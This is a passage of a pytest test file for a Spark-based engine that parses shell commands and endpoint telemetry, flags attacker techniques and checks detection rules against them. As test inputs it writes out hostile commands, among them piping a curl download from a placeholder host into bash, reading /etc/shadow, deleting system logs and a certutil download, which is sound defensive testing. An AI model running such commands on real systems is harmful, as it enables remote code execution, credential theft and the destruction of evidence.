"""The detection engine: parsing, matching, verdicts, telemetry, audits, exports."""

import json
import random
import re

import pytest
import yaml
from pyspark.sql import functions as F

from covspark import serve
from covspark.fixed import PRODUCT
from covspark.functions import dialect, records, shell, sql
from covspark.operators import edr, kb, matcher, rules, verdict
from covspark.operators.candidates import KEY, candidates, enrich
from covspark.plans import analyze, coverage, deltas, verify
from covspark.sinks import exports, gates, scaffold, text
from covspark.sources import ruleset, runs, telemetry


@pytest.fixture(scope="module")
def bases():
    return {p: kb.load(p) for p in PRODUCT}


def script(spark, body, platform="linux-auditd", logical=True):
    units = analyze.script_units(spark.createDataFrame([("s", body)], "src string, text string"), logical)
    return analyze.predictive(units, kb.load(platform)), units


def found(spark, body, platform="linux-auditd"):
    rows = script(spark, body, platform)[0].select("line", "rule_id").collect()
    return sorted((r.line, r.rule_id) for r in rows)


# --- parsing

LINES = {
    "FOO=bar sudo cat /etc/shadow": [("cat", ["/etc/shadow"])],
    "id; curl http://x/y | bash": [("id", []), ("curl", ["http://x/y"]), ("bash", [])],
    "sudo -u root cat x": [("root", ["cat", "x"])],
    "echo 'a;b' ';' x": [("echo", ["a;b"]), ("x", [])],
    "echo \"it's\" a#b '#no' # gone": [("echo", ["it's", "a#b", "#no"])],
    r"C:\Windows\certutil.EXE -f": [("certutil", ["-f"])],
    "env A=1 -i B": [("-i", ["B"])],
    "sudo": [],
    "# only": [],
    "a&&b||c&d": [("a", []), ("b", []), ("c", []), ("d", [])],
}


def test_commands(spark):
    rnd = random.Random(1)
    lines = [*LINES, *("".join(rnd.choices("ab;|&'\"# \\=-/.", k=14)) for _ in range(200))]
    rows = spark.createDataFrame([(i, x) for i, x in enumerate(lines)], "i int, t string").selectExpr("i", "t", f"{shell.commands_sql('t')} AS c").collect()
    for r in rows:
        got = [(c.program, list(c.args)) for c in r.c]
        assert got == [(c.program, list(c.args)) for c in shell.parse(r.t)], r.t
        if r.t in LINES:
            assert got == LINES[r.t]


def test_logical_lines():
    body = "a \\\nb\nc |\n d\ncat <<EOF\nid\nEOF\nbash <<'E'\nwhoami\nE\nlast <<< x\nend"
    assert list(shell.logical_lines(body)) == [(1, "a  b"), (3, "c |  d"), (5, "cat <<EOF"), (8, "bash <<'E'"), (9, "whoami"), (11, "last <<< x"), (12, "end")]
    assert shell.substitutions("x $(a $(b) c) `d` $(un") == ["a $(b) c", "b", "d"]


def test_dialect():
    for bad in ("(?<=a)b", "a(?!b)", r"(a)\1", "a++", "a{2}+", "(?>a)", "(", "(?:a{1000}){1000}"):
        assert dialect.translate(bad) is None, bad
    assert dialect.translate("c$").endswith(r"c\z")
    assert dialect.translate("c$", multi_line=True).endswith("c$")
    assert dialect.translate(r"[$]\$").endswith(r"[$]\$")
    assert dialect.translate(r"\p{L}+") and dialect.translate("(?P<n>x)").endswith("(?<n>x)")


def test_leaves(spark):
    cases = [
        (sql.word("t", "id_rsa"), {"cp ~/.ssh/id_rsa x": True, "vim id_rsa_notes": False, "id_rsa": True}),
        (sql.path_under("t", "/var/log/"), {"/var/log": True, "/var/log/x": True, "/var/logistics": False, "/var/log//": True}),
        (sql.path_under("t", "/"), {"/": False, "/etc": False}),
        (sql.glob("t", "*.e?e"), {"a.exe": True, "a.exec": False, "a\nb.exe": True, ".exe": True}),
        (sql.glob("t", "a.c"), {"a.c": True, "abc": False}),
        (sql.glob("t", "x*z", whole=False), {"axyzb": True, "zx": False}),
    ]
    for expression, want in cases:
        rows = spark.createDataFrame([(x,) for x in want], "t string").selectExpr("t", f"{expression} AS v").collect()
        assert {r.t: r.v for r in rows} == want, expression


# --- the knowledge base


def test_entries_match_what_stands_for_them(spark, bases):
    for platform, base in bases.items():
        lines = [(e.id, matcher.representative_line(e)) for e in base.entries if e.on_line]
        hits = script(spark, "\n".join(x for _, x in lines), platform, logical=False)[0]
        got = {(r.line, r.rule_id) for r in hits.select("line", "rule_id").collect()}
        for n, (i, _) in enumerate(lines, 1):
            assert (n, i) in got, (platform, i)
        events = [(i, *matcher.representative_event(e.match)) for i, e in enumerate(base.entries) if e.on_event]
        df = spark.createDataFrame([(i, c, f) for i, c, f in events], "record int, class string, fields map<string,string>")
        both = {(r.record, r.entry) for r in kb.match_events(df, base).select("record", "entry").collect()}
        assert all((i, i) in both for i, *_ in events)


BENIGN = {"linux-auditd": "ls -la\ncd /var/logistics\ngrep -r x .\nvim id_rsa_backup_notes.txt\ngit push\nmake all\necho done\nrm -rf /tmp/x", "windows-sysmon": "dir\nnotepad.exe a.txt\nnet use z: \\\\server\\share\ncertutil -hashfile a", "macos-es": "open .\nbrew install x\nls ~/Library"}


def test_benign_lines_have_no_finding(spark):
    for platform, body in BENIGN.items():
        assert found(spark, body, platform) == []


def test_findings(spark):
    assert found(spark, "id && id") == [(1, "id")]
    assert found(spark, "x=$(whoami)\n# id\n\ncat <<E\nid\nE\nrm -rf /var/log/nginx") == [(1, "whoami"), (7, "clear-syslog-rm")]
    assert found(spark, "cp id_rsa.pub x") == []
    findings, units = script(spark, "curl http://x | bash\nid\ncat /etc/shadow")
    r = analyze.report(findings, units, kb.load("linux-auditd"), least=60).first()
    assert [f.rule_id for f in r.findings] == ["shadow-read", "pipe-to-shell"]
    assert (r.max_noise, r.lines_analyzed) == (85, 3)
    assert [f.severity for f in r.findings] == ["critical", "critical"]
    quiet, units = script(spark, "ls")
    assert analyze.report(quiet, units, kb.load("linux-auditd")).first().findings == []


def test_matchers_are_checked():
    entry = {"id": "x", "description": "d", "techniques": [], "telemetry": [], "detections": [], "noise": 1}
    for bad in (
        {"program": "a", "args": {"nothing": "b"}},
        {"prog": "a"},
        {"line": {"regex": "a"}},
        {"event": {"class": "disk", "field": "F", "eq": "x"}},
        {"event": {"class": "file", "field": "F", "eq": "x", "prefix": "y"}},
        {"event": {"class": "file", "field": "F"}},
        {"event": {"class": "file", "all": []}},
        {"event": {"class": "file", "field": "F", "regex": "x"}},
        {"event": {"class": "file", "not": {"field": "F", "eq": "x"}}},
    ):
        with pytest.raises(matcher.MatcherError):
            matcher.Entry(match=bad, **entry)
    assert matcher.Entry(match={"args": {"eq": "x"}}, **entry).warnings


def test_event_axis_is_two_valued(spark):
    entry = {"id": "x", "description": "d", "techniques": [], "telemetry": [], "detections": [], "noise": 1}
    match = {"event": {"class": "file", "all": [{"field": "targetfilename", "prefix": "/A"}, {"not": {"field": "User", "eq": "root"}}]}}
    base = kb.parse({"platform": "linux-auditd", "note": "", "entries": [entry | {"match": match}]})
    rows = [(1, "file", {"TargetFilename": "/a/b"}), (2, "file", {"TargetFilename": "/a", "USER": "Root"}), (3, "network", {"TargetFilename": "/a"}), (4, "file", {"x": "y"})]
    df = spark.createDataFrame(rows, "record int, class string, fields map<string,string>")
    assert [r.record for r in kb.match_events(df, base).collect()] == [1]


def test_representatives():
    entry = {"id": "x", "description": "d", "techniques": [], "telemetry": [], "detections": [], "noise": 1}
    e = matcher.Entry(match={"program": {"any": ["net", "net1"]}, "args": {"all": [{"at": {"index": 1, "value": {"eq": "b"}}}, {"flag": "/add"}, {"word": "z"}, {"not": {"eq": "q"}}]}}, **entry)
    assert matcher.representative_line(e) == "net /add b z"
    assert matcher.representative_event({"event": {"class": "file", "all": [{"field": "F", "contains": "/LaunchAgents/"}, {"field": "f", "suffix": "x.plist"}]}}) == ("file", {"F": "/LaunchAgents/x.plist"})
    assert matcher.representative_event({"event": {"class": "file", "field": "F", "path_under": "/etc/cron.d/"}}) == ("file", {"F": "/etc/cron.d/_"})


# --- rules


def rule(detection):
    return rules.rule_of({"id": "r", "title": "t", "detection": detection})


def verdicts(spark, detection, line="curl -s x", platform="linux-auditd", **how):
    return [r.verdict for r in verdict.evaluate(spark, rule(detection), line, platform, **how).collect()]


SEL = lambda **k: {"s": {x.replace("__", "|"): v for x, v in k.items()}, "condition": "s"}
SEEN = {"Image": "/usr/bin/curl", "DestinationIp": "10.2.3.4:80", "ParentImage": "", "Six": "[fe80::1]:9"}

OUTCOMES = [
    (SEL(Image__endswith="/curl"), {}, "fires"),
    (SEL(Image__endswith="/usr/bin/curl"), {}, "indeterminate"),
    (SEL(Image__endswith="/usr/bin/wget"), {}, "no-fire"),
    (SEL(Image="*/bin/wget"), {}, "no-fire"),
    (SEL(Image__endswith="/usr/bin/curl"), {"observed": SEEN}, "fires"),
    (SEL(ParentImage="x"), {}, "indeterminate"),
    (SEL(ParentImage=None), {}, "indeterminate"),
    ({"s": {"ParentImage": None}, "condition": "not s"}, {}, "indeterminate"),
    (SEL(CommandLine__re="CURL.*x$"), {}, "fires"),
    (SEL(CommandLine__re="(?<=a)x"), {}, "indeterminate"),
    (SEL(Image__re="curl"), {}, "indeterminate"),
    (SEL(CommandLine__contains__all=["curl", "-s"]), {}, "fires"),
    (SEL(CommandLine__contains__all=["curl", "-z"]), {}, "no-fire"),
    (SEL(CommandLine__contains=["zzz", "-S"]), {}, "fires"),
    (SEL(CommandLine__base64="x"), {}, "indeterminate"),
    (SEL(CommandLine__contains__startswith="x"), {}, "indeterminate"),
    (SEL(DestinationIp__cidr="10.0.0.0/8"), {"observed": SEEN}, "fires"),
    (SEL(DestinationIp__cidr=["11.0.0.0/8", "::/0"]), {"observed": SEEN}, "fires"),
    (SEL(DestinationIp__cidr="fe80::/10"), {"observed": SEEN}, "no-fire"),
    (SEL(Six__cidr="fe80::/10"), {"observed": SEEN}, "fires"),
    (SEL(Six__cidr="0.0.0.0/0"), {"observed": SEEN}, "no-fire"),
    (SEL(Image__cidr="10.0.0.0/8"), {"observed": SEEN}, "indeterminate"),
    (SEL(DestinationIp__cidr="10.0.0.0/99"), {"observed": SEEN}, "indeterminate"),
    ({"a": ["zz", "cur?"], "condition": "a"}, {}, "fires"),
    ({"a": {"|all": ["curl", "zz"]}, "condition": "a"}, {}, "no-fire"),
    ({"a": [{"CommandLine": "*x"}, {"ParentImage": "q"}], "condition": "a"}, {}, "fires"),
    ({"a": {"CommandLine": "*x"}, "b": {"ParentImage": "q"}, "condition": "a and not b"}, {}, "indeterminate"),
    ({"a1": {"CommandLine": "*x"}, "a2": {"ParentImage": "q"}, "condition": "1 of a*"}, {}, "fires"),
    ({"a1": {"CommandLine": "*x"}, "a2": {"ParentImage": "q"}, "condition": "2 of them"}, {}, "indeterminate"),
    ({"a1": {"CommandLine": "*z"}, "a2": {"ParentImage": "q"}, "condition": "all of a*"}, {}, "no-fire"),
    ({"a1": {"CommandLine": "*x"}, "condition": "all of zz*"}, {}, "fires"),
    ({"a1": {"CommandLine": "*x"}, "condition": "gone or a1"}, {}, "fires"),
    (SEL(type="EXECVE", a0="curl", a1="-s"), {}, "fires"),
    (SEL(type="EXECVE", a0="/usr/bin/curl"), {}, "indeterminate"),
    (SEL(type="SYSCALL", comm="curl"), {}, "fires"),
    (SEL(type="SYSCALL", exe="/usr/bin/curl"), {}, "indeterminate"),
    (SEL(type="PATH", name="/etc/shadow"), {}, "no-fire"),
    (SEL(type="PATH", name="/etc/shadow"), {"files": ["/etc/shadow"]}, "fires"),
]


def test_outcomes(spark):
    asked = {str(i): rule(d) for i, (d, *_) in enumerate(OUTCOMES)}
    for i, r in asked.items():
        r.id = i
    for how in ({}, {"observed": SEEN}, {"files": ["/etc/shadow"]}):
        own = {i: r for i, r in asked.items() if OUTCOMES[int(i)][1] == how}
        rows = spark.createDataFrame([(shell.commands("curl -s x")[0], how.get("observed"), list(own))], f"matched_command {shell.COMMAND}, observed map<string,string>, ids array<string>")
        rows = verdict.evidence(rows, "linux-auditd", "observed", sql.strings(how["files"]) if "files" in how else None)
        verdict.prepare(spark)
        got = {r.judged: r.verdict.outcome for r in verdict.judge(rows, own, "ids").collect()}
        assert got == {i: OUTCOMES[int(i)][2] for i in own}, {i: (OUTCOMES[int(i)], got[i]) for i in own if got[i] != OUTCOMES[int(i)][2]}


def test_causes(spark):
    (v,) = verdicts(spark, {"a": {"ParentImage": "x", "Image|endswith": "/usr/bin/curl", "CommandLine|expand": "y", "User": None}, "condition": "a"})
    assert (v.missing_fields, v.partial_fields, v.blocking_modifiers, v.null_value_match) == (["ParentImage", "User"], ["Image"], ["expand"], True)
    (v,) = verdicts(spark, SEL(CommandLine__contains="curl"))
    assert (v.missing_fields, v.blocking_modifiers) == ([], [])
    assert verdict.evaluate_record(spark, rule(SEL(Image="*curl")), {"Image": "/x/curl"}).first().verdict.outcome == "fires"


def test_transforms():
    assert rules.base64offset("foobar") == ["Zm9vYmFy", "Zvb2Jhc", "mb29iYX"]
    assert rules.base64offset("ab") is None
    assert rules.windash("-f a-b") == ["-f a-b", "/f a-b", "–f a-b", "—f a-b", "―f a-b"]
    assert rules.condition("a and (b or not c) and 1 of d*") == ("and", ("id", "a"), ("or", ("id", "b"), ("not", ("id", "c"))), ("of", 1, "d*"))
    assert all(rules.condition(x) is None for x in ("a b", "(a", "1 of", "a |count() > 3", ""))
    assert rules.technique("attack.t1059.001") == "T1059.001" and rules.technique("attack.execution") is None


def document(i, title, detection, tags=("attack.t1105",), level="high", product="linux", category="process_creation"):
    return yaml.safe_dump({"title": title, "id": i, "level": level, "tags": list(tags), "logsource": {"product": product, "category": category}, "detection": detection})


@pytest.fixture(scope="module")
def index(spark):
    texts = {
        "a.yml": document("r1", "Curl by name", SEL(Image__endswith="/curl"), level="low"),
        "b.yml": "---\n".join(document(f"d{n}", f"Decoy {n}", SEL(Image__endswith="/nothing"), level="critical") for n in range(5)),
        "c.yaml": document("r2", "Parent", SEL(ParentImage__endswith="/osascript")) + "---\n: broken: [\n---\n" + document("w", "Windows", SEL(Image="x"), product="windows"),
        "d.yml": document("r3", "Cron file", SEL(TargetFilename__startswith="/etc/cron.d/"), ["attack.t1053.003"], category="file_event"),
        "e.yml": document("r4", "Unread", {"s": {"a": "b"}, "condition": "s | count() > 1"}, ["attack.t1003.008"]) + "---\n" + document("r5", "Shadow", SEL(type="PATH", name="/etc/shadow"), ["attack.T1003.008"], category=""),
        "f.yml": document("r6", "No shadow copies", SEL(CommandLine__contains="nope"), ["attack.t1070.002"]),
    }
    return ruleset.from_texts(spark, texts, "linux")


def test_index(spark, index, tmp_path):
    assert (index.files_scanned, index.rules_indexed) == (6, 11)
    assert index.logic["r4"] is None and index.logic["r1"].title == "Curl by name"
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/x.yml").write_text(document("q", "Q", SEL(Image="x")))
    (tmp_path / "y.txt").write_text("no rule")
    for _ in range(2):
        again = ruleset.load(spark, str(tmp_path), "linux", cache=f"file://{tmp_path}/cache")
        assert (again.files_scanned, again.rules_indexed, list(again.logic)) == (1, 1, ["q"])
    mark = ruleset.fingerprint(spark, str(tmp_path), "linux")
    (tmp_path / "z.yml").write_text(document("q2", "Q2", SEL(Image="x")))
    assert ruleset.fingerprint(spark, str(tmp_path), "linux") != mark
    assert ruleset.load(spark, str(tmp_path), "linux", cache=f"file://{tmp_path}/cache").rules_indexed == 2


def test_enrichment_shows_firing_rules_first(spark, index):
    findings, _ = script(spark, "curl http://x\nid")
    assert candidates(findings, index).count() == 7
    shown = {r.rule_id: r.detections for r in enrich(findings, index, "linux-auditd").collect()}
    assert [d.rule for d in shown["curl"]] == ["Curl by name (r1)", "Parent (r2)", "Decoy 0 (d0)", "Decoy 1 (d1)", "Decoy 2 (d2)"]
    assert [d.verdict for d in shown["curl"]][:3] == ["fires", "indeterminate (needs ParentImage)", "no-fire"]
    assert [d.source for d in shown["id"]] == ["Audit"]
    capped = enrich(findings, index, "linux-auditd", before=True).where("rule_id = 'curl'").first()
    assert "Curl by name (r1)" not in [d.rule for d in capped.detections]


def test_coverage(spark, index):
    findings, _ = script(spark, "curl x\nrm /var/log/a\ncat /etc/shadow\nid\ncrontab -l")
    got = {r.rule_id: (r.coverage, r.firing) for r in coverage.coverage(findings, index, "linux-auditd").collect()}
    assert got == {"curl": ("covered", ["Curl by name"]), "clear-syslog-rm": ("gap", []), "shadow-read": ("covered", ["Shadow"]), "id": ("no-rules", []), "crontab-l": ("no-rules", [])}
    results = coverage.coverage(findings, index, "linux-auditd")
    assert gates.exit_code(gates.gaps(results)) == 1
    assert {r.coverage: r.n for r in coverage.counts(results).collect()} == {"covered": 2, "gap": 1, "no-rules": 2}
    many = spark.createDataFrame([(["a", "b", "c", "d"],), (["a"],)], "firing array<string>").select(coverage.summary().alias("s"))
    assert [r.s for r in many.collect()] == ["a; b; c; +1 more", "a"]


def test_verify(spark, index, bases):
    results = verify.verify(spark, bases["linux-auditd"], index).cache()
    got = {r.id: r for r in results.collect()}
    assert got["curl"].status == "verified" and got["curl"].firing == ["Curl by name"]
    assert got["cron-persist"].status == "verified" and got["cron-persist"].firing == ["Cron file"]
    assert got["clear-syslog-rm"].status == "unverified" and got["clear-syslog-rm"].not_firing == ["No shadow copies"]
    assert got["shadow-read"].status == "verified"
    assert got["wget"].status == "indeterminate" and got["wget"].because.missing_fields == ["ParentImage"]
    assert got["insmod"].status == "no-rule"
    assert "id" not in got
    assert [r.status for r in results.collect()][0] == "unverified"
    assert verify.causes(results).first().cause == "missing fields"
    assert gates.exit_code(gates.unverified(results)) == 1


# --- telemetry

SYSMON = [
    {"EventID": 1, "ProcessId": 7, "Image": r"C:\Windows\System32\certutil.exe", "CommandLine": "certutil -urlcache -f http://x", "ParentImage": r"C:\Office\winword.exe"},
    {"Event": {"System": {"EventID": 3}, "EventData": [{"@Name": "ProcessId", "#text": "7"}, {"@Name": "DestinationIp", "#text": "192.0.2.1"}, {"@Name": "DestinationPort", "#text": 443}]}},
    {"winlog": {"event_id": 13, "event_data": {"ProcessId": 9, "TargetObject": r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x"}}},
    {"EventID": 1, "ProcessId": 7, "commandline": " ", "image": r"C:\a\whoami.exe"},
    {"EventID": 11, "ProcessId": 7, "TargetFilename": r"C:\x"},
    {"EventID": 5, "ProcessId": 7},
    {"EventID": 11, "TargetFilename": r"C:\no pid"},
    {"EventID": 3, "ProcessId": 7},
]
AUDIT = """type=SYSCALL msg=audit(1.0:1): success=yes pid=10 uid=1000 comm="wget" exe=2f7573722f62696e2f77676574 tty=(none) key="k"
type=EXECVE msg=audit(1.0:1): argc=3 a0="wget" a1="http://x/y z" a3="gap"
type=CWD msg=audit(1.0:1): cwd="/tmp"
type=SYSCALL msg=audit(1.0:2): success=yes pid=10
type=SOCKADDR msg=audit(1.0:2): saddr=02000050A9FEA9FE0000
type=SYSCALL msg=audit(1.0:3): success=no pid=10
type=SOCKADDR msg=audit(1.0:3): saddr=020000500A000001
type=PATH msg=audit(1.0:4): name="/etc" nametype=PARENT
type=PATH msg=audit(1.0:4): name="/etc/cron.d/x" nametype=CREATE
type=SYSCALL msg=audit(1.0:4): success=yes pid=11
type=SOCKADDR msg=audit(1.0:5): saddr=0A0001BB00000000FE800000000000000000000000000A01
garbage
type=EXECVE msg=audit(1.0:6): argc=1 a0="id" a0="whoami"
"""
ESF = [
    {"process": {"executable": {"path": "/bin/zsh"}, "audit_token": {"pid": 5}}, "event": {"exec": {"target": {"executable": {"path": "/usr/bin/curl"}, "audit_token": {"pid": 6}, "is_platform_binary": True, "signing_id": ""}, "args": ["curl", "a b"], "cwd": {"path": "/u"}}}},
    {"process": {"executable": {"path": "/usr/bin/curl"}, "audit_token": {"pid": 6}}, "event": {"connect": {"address": "192.0.2.9", "port": 443}}},
    {"process": {"executable": {"path": "/usr/bin/tee"}, "pid": "8"}, "event": {"create": {"destination": {"new_path": {"filename": "/L/LaunchAgents/a.plist"}}}}},
    {"process": {}, "event": {"fork": {}}},
]


def ingest(spark, body, form, users=None):
    return telemetry.ingest(spark.createDataFrame([("f", body)], "src string, text string"), form, users)


def test_sysmon(spark):
    for body in (json.dumps(SYSMON), "\n".join(map(json.dumps, SYSMON)) + "\n\n"):
        got = ingest(spark, body, "sysmon")
        runs_ = got.observations.orderBy("record").collect()
        assert [(r.record, r.commands[0].program, [tuple(s) for s in r.side_effects]) for r in runs_] == [(1, "certutil", [("network", "network connection to 192.0.2.1:443")]), (4, "whoami", [("file", r"file created C:\x")])]
        assert runs_[0].fields["ProcessId"] == "7" and runs_[1].raw == r"C:\a\whoami.exe"
        assert [(r.record, r["class"], r.detail) for r in got.events.orderBy("record").collect()] == [(3, "registry", r"registry set HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x"), (7, "file", r"file created C:\no pid")]
        assert got.skipped.first().skipped == 6
    hits = analyze.observed(got, kb.load("windows-sysmon")).select("line", "rule_id").collect()
    assert {tuple(r) for r in hits} == {(1, "certutil-download"), (3, "run-key-persist"), (4, "whoami-win")}
    with pytest.raises(Exception, match="invalid JSON on line 2"):
        ingest(spark, "{}\n{", "sysmon").skipped.collect()


def test_auditd(spark):
    users = telemetry.passwd(spark.createDataFrame([("p", "root:x:0:\nold:x:1000:\nbob:x:1000:1000\n:x:3\nx")], "src string, text string"))
    got = ingest(spark, AUDIT, "auditd", users)
    runs_ = got.observations.orderBy("record").collect()
    first = runs_[0]
    assert (first.raw, first.commands[0].program) == ('wget "http://x/y z"', "wget")
    assert {k: first.fields[k] for k in ("User", "Image", "exe", "CurrentDirectory", "key", "ProcessId", "a1")} == {"User": "bob", "Image": "/usr/bin/wget", "exe": "/usr/bin/wget", "CurrentDirectory": "/tmp", "key": "k", "ProcessId": "10", "a1": "http://x/y z"}
    assert "tty" not in first.fields
    assert [tuple(s) for s in first.side_effects] == [("network", "network connection to 169.254.169.254:80")]
    assert runs_[1].raw == "whoami"
    assert [(r.record, r.detail) for r in got.events.orderBy("record").collect()] == [(4, "file created /etc/cron.d/x"), (5, "network connection to fe80:0:0:0:0:0:0:a01:443")]
    assert got.skipped.first().skipped == 4


def test_esf(spark):
    got = ingest(spark, "\n".join(map(json.dumps, ESF)), "esf")
    (r,) = got.observations.collect()
    assert (r.raw, [tuple(s) for s in r.side_effects]) == ('curl "a b"', [("network", "network connection to 192.0.2.9:443")])
    assert r.fields == {"Image": "/usr/bin/curl", "CommandLine": 'curl "a b"', "CurrentDirectory": "/u", "ParentImage": "/bin/zsh", "ProcessId": "6", "is_platform_binary": "true"}
    (e,) = got.events.collect()
    assert (e.detail, e.fields["ProcessId"]) == ("file created /L/LaunchAgents/a.plist", "8")
    assert got.skipped.first().skipped == 3


def test_decoding(spark):
    values = {'"a b"': "a b", "6162": "ab", "61620000": "ab", "zz": "zz", "ff": "ff", "abc": "abc", '""': ""}
    rows = spark.createDataFrame([(v,) for v in values], "v string").selectExpr("v", f"{records.decoded('v')} AS d").collect()
    assert {r.v: r.d for r in rows} == values


# --- deltas, exports, vendors, serving


def test_findings_delta(spark):
    old, _ = script(spark, "id\ncurl x\ncurl y\nwhoami")
    new, _ = script(spark, "id\ncurl x\ncat /etc/shadow")
    old, new = (d.withColumn("pos", F.col("line")) for d in (old, new))
    new = new.withColumn("detections", F.when(F.col("rule_id") == "id", F.array(F.struct(F.lit("Sigma").alias("source"), F.lit("x").alias("rule"), F.lit("high").alias("confidence"), F.lit("fires").alias("verdict")))).otherwise(F.col("detections")))
    rows = deltas.findings_delta(old, new).collect()
    assert [(r.change, r.rule_id) for r in rows] == [("added", "shadow-read"), ("changed", "id"), ("removed", "whoami")]
    t = deltas.trend(old, new).first()
    assert (t.baseline_findings, t.current_findings, t.louder, t.quieter) == (4, 3, True, False)
    assert "added" in text.delta(rows)


def test_coverage_and_verify_deltas(spark):
    make = lambda rows: spark.createDataFrame([(i, r, "d", ["T1"], c) for i, (r, c) in enumerate(rows)], "pos long, rule_id string, description string, techniques array<string>, coverage string")
    old, new = make([("a", "gap"), ("a", "covered"), ("b", "covered"), ("c", "gap"), ("d", "gap"), ("e", "gap")]), make([("a", "covered"), ("b", "gap"), ("c", "covered"), ("d", "no-rules"), ("f", "gap")])
    assert [(r.change, r.rule_id) for r in deltas.coverage_delta(old, new).collect()] == [("added", "f"), ("changed", "d"), ("closed", "c"), ("opened", "b"), ("removed", "e")]
    assert deltas.coverage_gate(old, new).first().regressed
    claim = lambda rows: spark.createDataFrame([(i, "d", s) for i, s in rows], "id string, description string, status string")
    old, new = claim([("a", "verified"), ("b", "unverified"), ("c", "unverified"), ("d", "verified"), ("e", "indeterminate")]), claim([("a", "indeterminate"), ("c", "no-rule"), ("e", "verified"), ("f", "unverified"), ("g", "verified")])
    assert [(r.change, r.id, r.after) for r in deltas.verify_delta(old, new).collect()] == [("improvement", "e", "verified"), ("introduced", "f", "unverified"), ("introduced", "g", "verified"), ("regression", "a", "indeterminate"), ("regression", "d", "removed")]
    gate = deltas.verify_gate(old, new).first()
    assert gate.fails and gate.reason == "2 detection(s) got worse than the baseline; 1 new claim(s) the ruleset does not substantiate"
    assert not deltas.verify_gate(new, new).first().fails


def test_exports(spark, tmp_path):
    findings, units = script(spark, "curl http://x | bash\ncurl y")
    reports = analyze.report(findings, units, kb.load("linux-auditd")).cache()
    log = json.loads(exports.sarif(reports).first().json)["runs"][0]
    assert [r["id"] for r in log["tool"]["driver"]["rules"]] == ["pipe-to-shell", "curl"]
    assert log["tool"]["driver"]["rules"][0]["properties"]["security-severity"] == "8.0"
    assert log["tool"]["driver"]["rules"][0]["helpUri"] == "https://attack.mitre.org/techniques/T1059/004"
    assert [(r["ruleId"], r["level"], r["locations"][0]["physicalLocation"]["region"]["startLine"]) for r in log["results"]] == [("pipe-to-shell", "error", 1), ("curl", "warning", 1), ("curl", "warning", 2)]
    layer = json.loads(exports.navigator(reports).first().json)
    assert [(t["techniqueID"], t["score"], t["comment"].count("\n")) for t in layer["techniques"]] == [("T1059.004", 80, 0), ("T1105", 80, 2)]
    (tmp_path / "r.json").write_text(exports.report_json(reports).first().json)
    back = runs.rows(runs.read(spark, str(tmp_path / "r.json"), "report"), "report")
    assert deltas.findings_delta(back, back).count() == 0 and back.count() == 3
    assert "pipe-to-shell" in text.report(reports.first())
    assert gates.exit_code(gates.loud(reports)) == 1 and gates.exit_code(gates.loud(reports, 90)) == 0


def test_vendors(spark):
    lines = {"Sysmon EID 1 of x": "process_creation", "Sysmon EID 10 on lsass": "process_access", "eid 13 registry": "registry_set", "nothing": None, "EID 11": "file_write"}
    got = spark.createDataFrame([(x,) for x in lines], "t string").select("t", edr.line_class(F.col("t")).alias("c")).collect()
    assert {r.t: r.c for r in got} == lines | {"EID 11": "file_write"}
    df = spark.createDataFrame([(1, ["outbound connect()", "execve"]), (2, ["nothing"])], "id int, telemetry array<string>")
    rows = {r.id: r.edr for r in edr.annotate(df, ["cs", "all", "elastic"], ["id"]).collect()}
    assert [e.vendor for e in rows[1]] == ["CrowdStrike Falcon", "Microsoft Defender for Endpoint", "SentinelOne", "Elastic Defend"]
    assert rows[1][0].events == ["NetworkConnectIP4", "NetworkReceiveAcceptIP4", "ProcessRollup2", "SyntheticProcessRollup2"]
    assert rows[2][1].events == ["DeviceProcessEvents"]


def test_scaffold(spark, bases):
    for platform, base in bases.items():
        for e in base.entries:
            made = [yaml.safe_load(d) for d in scaffold.documents(e, platform, "2024-01-01")]
            assert all(rules.rule_of(d) and d["logsource"]["product"] == base.product for d in made), e.id
            assert len({d["id"] for d in made}) == len(made)
    cron = next(e for e in bases["linux-auditd"].entries if e.id == "cron-persist")
    both = [yaml.safe_load(d) for d in scaffold.documents(cron, "linux-auditd")]
    assert [d["logsource"]["category"] for d in both] == ["process_creation", "file_event"]
    assert both[0]["detection"]["selection"]["CommandLine|contains"] == ["/etc/cron.d/", "/etc/crontab", "/var/spool/cron"]
    assert both[1]["detection"]["condition"] == "selection or selection_1"
    imds = next(e for e in bases["linux-auditd"].entries if e.id == "cloud-imds")
    assert yaml.safe_load(scaffold.documents(imds, "linux-auditd")[1])["detection"]["selection"] == {"DestinationIp": "169.254.169.254", "DestinationPort": 80}
    assert [e.id for e in scaffold.entries_by_ids(bases["linux-auditd"], ["curl", "none", "id", "curl"])] == ["curl", "id"]


def test_serving(spark, index):
    got = serve.analyze_command(spark, "curl x", "linux-auditd", index)
    assert got["findings"][0]["detections"][0]["verdict"] == "fires"
    assert serve.analyze_command(spark, "ls", "linux-auditd")["findings"] == []
    assert {e["rule_id"] for e in serve.lookup_technique(spark, "T1059", "linux-auditd")["entries"]} == {"pipe-to-shell", "pipe-to-sh", "reverse-shell-devtcp", "nc-exec"}
    with pytest.raises(ValueError):
        serve.lookup_technique(spark, "1059")
    text_ = document("r", "R", SEL(ParentImage="x"))
    assert serve.evaluate_rule(spark, text_, "curl", "linux-auditd")["missing_fields"] == ["ParentImage"]
    assert serve.evaluate_rule(spark, "x: 1", "curl", "linux-auditd")["outcome"] == "indeterminate"
    assert [r.verdict.outcome for r in serve.check_rule(spark, document("r", "R", SEL(Image__endswith="/curl")), "# c\ncurl x; id", "linux-auditd").orderBy("command").collect()] == ["fires", "no-fire"]
    assert [d["platform"] for d in serve.describe_coverage(spark)] == list(PRODUCT)


def test_observed_fields_resolve_rules(spark):
    got = ingest(spark, json.dumps(SYSMON), "sysmon")
    findings = analyze.observed(got, kb.load("windows-sysmon")).where("rule_id = 'certutil-download'")
    own = ruleset.from_texts(spark, {"x.yml": document("w", "Child of office", {"s": {"ParentImage|endswith": "\\winword.exe", "Image|endswith": "\\System32\\certutil.exe"}, "condition": "s"}, product="windows")}, "windows")
    assert coverage.coverage(findings, own, "windows-sysmon").first().coverage == "covered"


def test_streams(spark, tmp_path):
    from covspark.streaming import ingest as stream

    spark.createDataFrame([("h", "curl x; id\ncat /etc/shadow")], "src string, text string").write.json(f"{tmp_path}/in")
    lines = spark.readStream.schema("src string, text string").json(f"{tmp_path}/in")
    query = stream.stream_findings(lines, kb.load("linux-auditd")).writeStream.format("memory").queryName("found").outputMode("append").trigger(availableNow=True).start()
    assert query.awaitTermination(60)
    assert sorted(r.rule_id for r in spark.table("found").collect()) == ["curl", "id", "shadow-read"]


def run_stream(df, name):
